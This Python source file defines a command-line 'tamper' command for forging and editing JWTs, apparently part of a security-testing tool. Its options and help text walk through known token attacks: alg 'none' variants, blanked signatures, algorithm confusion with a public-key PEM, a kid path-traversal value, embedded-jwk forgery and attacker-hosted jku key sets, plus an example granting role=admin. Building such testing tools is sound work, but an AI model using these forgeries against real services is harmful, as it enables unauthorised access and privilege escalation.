"""`authcli tamper`: edit a token the way attackers do; the work is in authcli/tokens/tamper.py."""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Optional

import typer

from authcli.cli.common import notice, reports_errors
from authcli.errors import UsageError


@reports_errors
def tamper(
    token: str = typer.Argument(..., metavar="TOKEN", help="The JWT (a leading 'Bearer ' is fine), or - to read it from stdin."),
    sets: list[str] = typer.Option([], "--set", "-s", metavar="NAME=VALUE",
                                   help="Set a claim (repeatable). VALUE is JSON when it is JSON: sub=1 is a number, "
                                        "sub='\"1\"' a string, admin=true a boolean, roles='[\"admin\"]' a list; "
                                        "anything else (role=admin) is a string."),
    drops: list[str] = typer.Option([], "--del", metavar="NAME", help="Delete a claim (repeatable), e.g. --del exp."),
    header: list[str] = typer.Option([], "--header", metavar="NAME=VALUE",
                                     help="Set a header member (repeatable), VALUE read as for --set, e.g. --header kid=../../dev/null."),
    header_drops: list[str] = typer.Option([], "--header-del", metavar="NAME", help="Delete a header member (repeatable)."),
    alg: Optional[str] = typer.Option(None, "--alg", metavar="ALG", help="none, None, NONE or nOnE: unsigned, written as typed, "
                                      "signature blanked. With a key: the algorithm to re-sign with."),
    secret: Optional[str] = typer.Option(None, "--secret", help="Re-sign with this HMAC secret (HS256 unless the token or --alg says HS384/512)."),
    secret_file: Optional[Path] = typer.Option(None, "--secret-file", help="Re-sign with this file's bytes as the HMAC secret, "
                                               "exactly (a final newline is kept: a public key PEM for alg confusion)."),
    key: Optional[Path] = typer.Option(None, "--key", help="Re-sign with this private key (PEM or JWK; authcli keys makes one). "
                                       "With --embed-jwk or --jku: the attacker's key."),
    blank: bool = typer.Option(False, "--blank-sig", help="Empty the signature, keeping the header's alg."),
    embed_jwk: bool = typer.Option(False, "--embed-jwk", help="Sign with the attacker's key (made now unless --key) and put its "
                                   "public half in the header's jwk (CVE-2018-0114)."),
    jku: Optional[str] = typer.Option(None, "--jku", metavar="URL", help="Sign with the attacker's key and point the header's "
                                      "jku at URL; the key set to serve there is written to --jwks-out."),
    jwks_out: Optional[Path] = typer.Option(None, "--jwks-out", metavar="FILE",
                                            help="Where --jku writes its key set (default: jwks.json)."),
    force: bool = typer.Option(False, "--force", help="Let --jwks-out overwrite a file."),
) -> None:
    """Edit a token the way attackers do: change claims and header, then keep, blank or forge the signature.

    Everything not edited stays byte for byte: the segment left alone keeps its base64url text,
    and in an edited one every other member keeps its text and place (a changed value stays
    where it was, a new one goes last, spaced like the rest). The signature is kept unless asked
    (so a server's refusal can be seen), or: --alg none (or None, NONE, nOnE), --blank-sig,
    --secret/--secret-file/--key (re-sign), --embed-jwk, --jku URL; one of them. The new token
    goes to stdout alone, what changed to stderr; `authcli decode` shows what a verifier sees.

    \b
    Example: authcli tamper eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIyIn0.c2ln --set role=admin --set sub=1 --alg none
    """
    from authcli.render.escape import printable
    from authcli.tokens.parse import clean, split
    from authcli.tokens.tamper import describe, edits, signing
    from authcli.tokens.tamper import tamper as edit

    if jku is None and (jwks_out is not None or force):
        raise UsageError(f"{'--jwks-out' if jwks_out is not None else '--force'} goes with --jku URL")
    token, raw, key_data = _inputs(token, secret, secret_file, key)
    change = edits(sets, drops, header, header_drops)
    how = signing(split(clean(token)).header.get("alg"), alg=alg, secret=raw, key=key_data, blank=blank,
                  embed_jwk=embed_jwk, jku=jku)
    result = edit(token, change, how)
    jwks_out = jwks_out or Path("jwks.json")
    if result.jwks is not None:
        _write_jwks(jwks_out, result.jwks, force)
    sys.stdout.write(result.token + "\n")
    sys.stdout.flush()
    for line in describe(result):
        notice(printable(line))
    if result.jwks is not None:
        notice(printable(f"key set written to {jwks_out}: serve it at {jku}"))


def _inputs(token: str, secret: str | None, secret_file: Path | None, key: Path | None):
    """The token (from stdin for -), the HMAC secret's bytes and the key file's bytes (None when
    not given); regular files only, at most 1 MB, as sign and decode read them."""
    from authcli.cli.inspecting import MAX_INPUT, _read

    if token == "-":
        token = sys.stdin.read(MAX_INPUT + 1)
        if len(token) > MAX_INPUT:
            raise UsageError("the token on stdin is larger than 1 MB")
    if secret is not None and secret_file is not None:
        raise UsageError("--secret and --secret-file: give one")
    # The file's bytes as they are, a final newline included (sign and decode drop it): an
    # alg-confusion attack must match the PEM a server holds, newline and all. An empty secret
    # is allowed too: the kid-path attack signs with the empty key /dev/null gives a server.
    raw = secret.encode("utf-8") if secret is not None else (
        _read(secret_file, "secret file") if secret_file is not None else None)
    return token, raw, _read(key, "key file") if key is not None else None


def _write_jwks(path: Path, jwks: dict, force: bool) -> None:
    import json

    from authcli.files import write_new

    try:
        write_new(path, (json.dumps(jwks, indent=2) + "\n").encode(), 0o644, replace=force)
    except FileExistsError:
        raise UsageError(f"{path} exists: pass --force to overwrite, or --jwks-out another file") from None
    except OSError as err:
        raise UsageError(f"cannot write {path}: {err.strerror or err}") from None
